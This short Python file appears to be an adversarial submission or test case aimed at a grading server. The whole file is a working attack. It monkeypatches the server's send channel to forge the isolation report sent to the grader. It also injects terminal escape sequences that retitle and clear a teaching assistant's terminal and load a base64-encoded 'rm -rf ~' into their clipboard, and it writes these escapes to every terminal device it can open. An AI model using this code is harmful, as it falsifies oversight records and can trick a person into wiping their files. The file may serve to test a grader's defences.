"""Every message it sends the grader carries an isolation record of its own making, with
escape sequences that would retitle, clear and write the clipboard of the TA's terminal
if printed; it also writes to every terminal it can open."""
BASE = "solution"
LOSES = []
STATUS = "graded"

# %%
import gc
import glob

ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b]52;c;cm0gLXJmIH4=\x07"
server = next(o for o in gc.get_objects() if type(o).__name__ == "StudentServer")
honest_send = server.channel.send


def forged_send(header, blobs=(), deadline=None):
    return honest_send({**header, "isolation": {"filesystem": ESCAPES,
                                                "network": ESCAPES}}, blobs, deadline)


server.channel.send = forged_send
for path in ["/dev/tty", "/dev/console", *glob.glob("/dev/pts/*")]:
    try:
        with open(path, "w") as terminal:
            terminal.write(ESCAPES)
    except OSError:
        pass
